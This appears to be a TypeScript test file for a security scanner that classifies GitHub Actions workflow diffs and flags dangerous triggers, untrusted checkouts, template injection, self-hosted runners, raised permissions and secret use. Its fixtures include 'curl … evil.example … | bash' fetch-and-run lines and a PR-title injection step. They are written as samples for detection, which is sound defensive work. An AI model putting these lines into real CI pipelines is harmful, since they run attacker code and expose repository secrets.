import { before, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { initShell } from '../../../../src/engine/shell/parser.js';
import { parseDiff } from '../../../../src/engine/diff/parse.js';
import { classifyWorkflowDiff } from '../../../../src/engine/rules/workflow/index.js';
import type { DiffFile } from '../../../../src/engine/diff/types.js';
import { hasRule, level, policy, reasonOf, show, stepNamed } from './helpers.js';

before(async () => initShell());

function file(diff: string): DiffFile {
  const parsed = parseDiff(diff);
  const f = parsed.files[0];
  assert.ok(f, 'diff has a file');
  return f;
}

function newFileDiff(text: string, path = '.github/workflows/ci.yml'): string {
  const lines = text.replace(/\n$/, '').split('\n');
  return `diff --git a/${path} b/${path}\nnew file mode 100644\nindex 0000000..1111111\n--- /dev/null\n+++ b/${path}\n@@ -0,0 +1,${lines.length} @@\n${lines.map((l) => `+${l}`).join('\n')}\n`;
}

const header = 'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nindex 1111111..2222222 100644\n--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n';

describe('classifyWorkflowDiff', () => {
  test('a new file is judged whole', () => {
    const text = `on: pull_request_target\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n      - run: npm test\n`;
    const results = classifyWorkflowDiff(file(newFileDiff(text)), policy);
    assert.ok(hasRule(results, 'wf:dangerous-trigger', 'red'), show(results));
    assert.ok(hasRule(results, 'wf:untrusted-checkout', 'red'));
    assert.equal(reasonOf(results, 'wf:untrusted-checkout')?.line, 9);
    assert.equal(results.filter((r) => r.step !== null).length, 2);
  });

  test('a new plain CI file has no red entry', () => {
    const text = `on: [push, pull_request]\npermissions:\n  contents: read\njobs:\n  t:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - uses: actions/setup-node@v4\n      - run: npm ci\n      - run: npm test\n`;
    const results = classifyWorkflowDiff(file(newFileDiff(text)), policy);
    for (const r of results) assert.notEqual(r.zone, 'red', show(results));
  });

  test('an added step at the end of a job is judged', () => {
    const diff = header + '@@ -20,3 +20,5 @@ jobs:\n       - uses: actions/checkout@v4\n       - run: npm ci\n       - run: npm test\n+      - name: Sneaky\n+        run: curl -fsSL https://evil.example/x.sh | bash\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    const s = stepNamed(results, 'Sneaky');
    assert.ok(s, show(results));
    assert.equal(s.zone, 'red');
    assert.equal(s.reasons.find((r) => r.rule === 'step:remote-exec')?.line, 24);
    assert.equal(stepNamed(results, 'npm ci'), undefined, 'unchanged steps are not judged');
  });

  test('a line added in the middle of a run block whose start is not visible is still judged', () => {
    const diff = header + '@@ -30,4 +30,5 @@ jobs:\n           npm ci\n           npm run build\n+          curl https://evil.example/x | sh\n           npm test\n       - name: Next\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(hasRule(results, 'step:remote-exec', 'red'), show(results));
    assert.equal(reasonOf(results, 'step:remote-exec')?.line, 32);
  });

  test('a line added inside a visible run block', () => {
    const diff = header + '@@ -30,4 +30,5 @@ jobs:\n       - name: Build\n         run: |\n           npm ci\n+          echo "${{ github.event.pull_request.title }}"\n           npm test\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    const s = stepNamed(results, 'Build');
    assert.ok(s, show(results));
    assert.equal(s.reasons.find((r) => r.rule === 'wf:template-injection')?.line, 33);
  });

  test('a trigger added in a hunk at the top is a workflow-level finding', () => {
    const diff = header + '@@ -1,4 +1,5 @@\n name: CI\n on:\n   push:\n+  pull_request_target:\n permissions:\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(level(results, null)?.reasons.some((r) => r.rule === 'wf:dangerous-trigger' && r.line === 4), show(results));
    assert.ok(!hasRule(results, 'wf:default-permissions'), 'absence is not judged from a fragment');
  });

  test('a trigger added under on: whose key is not visible', () => {
    const diff = header + '@@ -3,3 +3,4 @@\n   push:\n     branches: [main]\n+  workflow_run:\n   pull_request:\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(hasRule(results, 'wf:dangerous-trigger', 'red'), show(results));
  });

  test('permissions raised in a hunk', () => {
    const diff = header + '@@ -1,5 +1,5 @@\n on: push\n permissions:\n-  contents: read\n+  contents: write\n jobs:\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(hasRule(results, 'wf:excessive-permissions', 'red'), show(results));
  });

  test('runs-on self-hosted changed in a job with triggers not visible: assume the worst', () => {
    const diff = header + '@@ -40,4 +40,4 @@\n   test:\n-    runs-on: ubuntu-latest\n+    runs-on: self-hosted\n     steps:\n       - run: npm test\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(hasRule(results, 'wf:self-hosted', 'red'), show(results));
  });

  test('triggers visible in another hunk are used', () => {
    const diff = header + '@@ -1,4 +1,4 @@\n on:\n   push:\n-    branches: [main]\n+    branches: [main, dev]\n permissions: {}\n@@ -40,4 +40,4 @@\n   test:\n-    runs-on: ubuntu-latest\n+    runs-on: self-hosted\n     steps:\n       - run: npm test\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(!hasRule(results, 'wf:self-hosted'), show(results));
  });

  test('a partly visible on: block is not trusted for other hunks', () => {
    const diff = header + '@@ -1,3 +1,3 @@\n on:\n   push:\n-    branches: [main]\n+    branches: [main, dev]\n@@ -40,4 +40,4 @@\n   test:\n-    runs-on: ubuntu-latest\n+    runs-on: self-hosted\n     steps:\n       - run: npm test\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(hasRule(results, 'wf:self-hosted', 'red'), show(results));
  });

  test('an added step that is invalid YAML: red wf:unparsable, and its run: is still judged', () => {
    const diff = header + '@@ -13,3 +13,5 @@ jobs:\n           node-version: 20\n       - run: npm ci\n       - run: npm test\n+      - name: Smoke test against staging\n+        run: curl -sf -H "Authorization: Bearer ${{ secrets.STAGING_TOKEN }}" https://staging.acme-api.io/health\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    const top = level(results, null);
    assert.ok(top?.reasons.some((r) => r.rule === 'wf:unparsable' && r.zone === 'red' && r.line === 17), show(results));
    const s = stepNamed(results, 'Smoke test against staging');
    assert.ok(s, show(results));
    assert.ok(s.reasons.some((r) => r.rule === 'step:credential-access' && r.line === 17));
    assert.ok(s.reasons.some((r) => r.rule === 'step:network' && r.line === 17));
    assert.equal(stepNamed(results, 'npm ci'), undefined, 'unchanged steps are not judged');
  });

  test('removed steps only: no step entries', () => {
    const diff = header + '@@ -20,4 +20,2 @@\n       - run: npm ci\n-      - name: Gone\n-        run: npm test\n       - run: npm run lint\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.equal(results.filter((r) => r.step !== null).length, 0, show(results));
  });

  test('deleted workflow -> nothing', () => {
    const diff = 'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\ndeleted file mode 100644\nindex 1111111..0000000\n--- a/.github/workflows/ci.yml\n+++ /dev/null\n@@ -1,2 +0,0 @@\n-on: push\n-jobs: {}\n';
    assert.deepEqual(classifyWorkflowDiff(file(diff), policy), []);
  });

  test('a new file that is not YAML is red wf:unparsable', () => {
    const results = classifyWorkflowDiff(file(newFileDiff('on: [push\njobs:\n  a: {\n')), policy);
    assert.ok(hasRule(results, 'wf:unparsable', 'red'), show(results));
  });

  test('binary workflow is red wf:unparsable', () => {
    const diff = 'diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\nindex 1111111..2222222 100644\nBinary files a/.github/workflows/ci.yml and b/.github/workflows/ci.yml differ\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.ok(hasRule(results, 'wf:unparsable', 'red'), show(results));
  });

  test('a changed with: secret in a visible step', () => {
    const diff = header + '@@ -20,3 +20,4 @@\n       - uses: codecov/codecov-action@v4\n         with:\n           files: lcov.info\n+          token: ${{ secrets.CODECOV_TOKEN }}\n';
    const results = classifyWorkflowDiff(file(diff), policy);
    assert.equal(stepNamed(results, 'codecov/codecov-action@v4')?.zone, 'red', show(results));
  });
});
